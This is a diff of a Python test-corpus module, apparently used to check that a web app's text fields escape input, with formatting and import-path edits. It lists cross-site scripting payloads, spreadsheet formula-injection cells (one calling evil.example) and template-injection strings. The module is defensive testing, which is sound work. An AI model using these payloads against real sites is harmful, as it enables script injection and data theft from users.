@@ -6,10 +6,11 @@ Every payload is a template with `{m}`, replaced by a marker naming the field an
 was typed. The markers are plain letters and digits: they survive escaping, so the page text
 shows which payloads were rendered (as text) on which page.
 """
+
 import re
 from dataclasses import dataclass
 
-from app.core.forms import WEB_ADDRESS
+from kaiku_training.core.forms import WEB_ADDRESS
 
 # Markup: tags, event handlers, script URLs, SVG and MathML, attribute and element breaking.
 MARKUP = [
@@ -22,10 +23,10 @@ MARKUP = [
     "<svg><a xlink:href=javascript:alert('{m}')><text>x</text></a></svg>",
     "\"><img src=x onerror=alert('{m}')>",
     "'><svg/onload=alert('{m}')>",
-    "\" onmouseover=\"alert('{m}')\" x=\"",
+    '" onmouseover="alert(\'{m}\')" x="',
     "' onfocus='alert(\"{m}\")' autofocus x='",
     "` onerror=alert('{m}') `",
-    "\" {m}=\"injected",
+    '" {m}="injected',
     "<a href=\"javascript:alert('{m}')\">{m}</a>",
     "<a href=\"jAvAsCrIpT:alert('{m}')\">x</a>",
     "<a href=\"&#106;avascript:alert('{m}')\">x</a>",
@@ -34,7 +35,7 @@ MARKUP = [
     "<iframe src=\"javascript:alert('{m}')\"></iframe>",
     "<iframe srcdoc=\"<script>alert('{m}')</script>\">",
     "<object data=\"data:text/html,<script>alert('{m}')</script>\">",
-    "<embed src=\"data:text/html,<b>{m}</b>\">",
+    '<embed src="data:text/html,<b>{m}</b>">',
     "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
     "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\">",
     "<style>*{{background:url(//evil.example/{m})}}</style>",
@@ -61,14 +62,14 @@ MARKUP = [
     "[{m}](data:text/html,<script>alert(1)</script>)",
     "![{m}](x\" onerror=\"alert('{m}'))",
     "![{m}](javascript:alert('{m}'))",
-    "[{m}](https://x.example/\"onmouseover=\"alert(1))",
+    '[{m}](https://x.example/"onmouseover="alert(1))',
     "<javascript:alert('{m}')>",
     # Template injection: must show as typed, never evaluated.
     "{m}{{{{7*7}}}}${{7*7}}{{% raw %}}",
 ]
 # Cells a spreadsheet would run as a formula, and text that would add lines to a calendar.
 FORMULAS = [
-    "=HYPERLINK(\"https://evil.example/{m}\")",
+    '=HYPERLINK("https://evil.example/{m}")',
     "+1+1 {m}",
     "-1+1 {m}",
     "@SUM(1) {m}",
@@ -103,6 +104,7 @@ def marker(field: int, payload: int) -> str:
 class Field:
     """A text field people write, as the corpus knows it: a number for its markers, a name for
     the report, and its length limit (a value that fits the form's limit)."""
+
     number: int
     name: str
     max_length: int = 200
@@ -120,7 +122,7 @@ class Field:
     def payloads(self) -> list[str]:
         templates = URL_PAYLOADS if self.url else PAYLOADS
         texts = [template.format(m=marker(self.number, index)) for index, template in enumerate(templates)]
-        texts = texts[self.lead:] + texts[:self.lead]
+        texts = texts[self.lead :] + texts[: self.lead]
         if not self.multiline:
             texts = [" ".join(text.split("\n")).replace("\r", "") for text in texts]
         if self.links_refused:
@@ -136,7 +138,7 @@ class Field:
 
     def share(self, index: int, records: int) -> str:
         """The index-th of `records` records' share of the payloads: each payload in one record."""
-        return self._joined(self.payloads()[index % records::records])
+        return self._joined(self.payloads()[index % records :: records])
 
     def _joined(self, texts: list[str]) -> str:
         return ("\n\n" if self.markdown else "\n" if self.multiline else SEPARATOR).join(texts)
